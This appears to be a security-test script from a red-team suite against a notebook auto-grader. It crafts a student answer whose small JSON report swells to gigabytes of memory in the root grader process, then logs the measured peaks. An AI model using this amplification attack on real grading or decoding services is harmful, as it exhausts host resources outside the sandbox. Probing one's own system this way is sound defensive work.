"""a04: the grader's memory, from a report that stays within max_observation_bytes (64 MB of JSON).

Round 2's fix caps a cell's reports in *bytes*. But JSON "[[],[],[],...]" costs 3 bytes per element and
becomes a Python list object (56 B) plus a pointer (8 B) per element in json.loads, and wire.decode builds
a second copy: ~40-50x. Measured alone (/tmp/r4amp.py, 64 MB): json.loads 1.5 GB, + wire.decode 3.2 GB peak,
~200 s of CPU under load.
The attack: quiz answer q1 = [[]] * N (the same empty list N times: cloudpickle's memo makes the hand-over
small; wire.encode writes N separate "[]"), so the hand-over passes, the observer's report
{"question": "q1", "answer": [[], [], ...]} is under 64 MB, and the grader process (outside every sandbox
and cgroup) loads and decodes it. A sampler records the peak RSS of every host process of the grader
(uid 0, the root venv's python) during grading.
Students: "amp" (N = 15,000,000: 45 MB of JSON) and "honest".
Run as root: the checkout's .venv/bin/python a04_observation_amplification.py
"""
import sys, threading; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.dirname(__import__("os").path.abspath(__file__))))
from attack_course import *

N = int(os.environ.get("AMP_N", 15_000_000))
amp = notebook(overrides={"quiz_q1": f"_e = []\nq1 = [_e] * {N}\n"})

peak = {}
stop = False


def sampler():
    while not stop:
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                st = open(f"/proc/{pid}/status").read()
                if "\nUid:\t0\t" not in st:
                    continue
                cmd = open(f"/proc/{pid}/cmdline").read().replace("\0", " ")
                if "/.venv/bin/python" not in cmd and "grader.grade" not in cmd:
                    continue
                rss = int(st.split("VmRSS:")[1].split()[0]) // 1024
                if rss > peak.get(pid, (0, ""))[0]:
                    peak[pid] = (rss, cmd[:120])
            except Exception:
                pass
        time.sleep(0.3)


if __name__ == "__main__":
    dest = make_course("04", {"amp": amp, "honest": honest_nb()})
    th = threading.Thread(target=sampler, daemon=True); th.start()
    try:
        grade(dest)
    finally:
        stop = True
    for pid, (rss, cmd) in sorted(peak.items(), key=lambda kv: -kv[1][0])[:6]:
        print(f"peak RSS {rss} MB pid {pid}: {cmd}")
    show(dest)
    outputs(dest, "amp")

# RESULT (root): WEAKER PLACE (grader memory beyond the byte cap).
# N=15M (45 MB JSON, 03:44-03:48 UTC): the observer's child that describes the hand-over did not finish within
# its 120 s call limit on this loaded 2-core machine ("your code did not return within 120 s"), so the report
# never reached the grader (peak of the grading child 476 MB). Output: a04_observation_amplification.N15M.out.txt
# N=5M (15 MB JSON, 03:48-03:53 UTC): it got through: the grading child (grader.forkserver child, host
# root, outside every sandbox and cgroup) peaked at 1083 MB RSS against 373-448 MB for the others: ~700 MB
# for a 15 MB report (~47x). At the 64 MB cap that is ~3 GB per submission (3.2 GB measured in isolation by
# /tmp/r4amp.py), times --workers; only the CPU time the observer's child needs to encode it (120 s per call,
# 240 s per check) keeps it lower on a slow machine. No score change: amp 0/30, honest 24/24 beside it.
# Output: a04_observation_amplification.N5M.out.txt
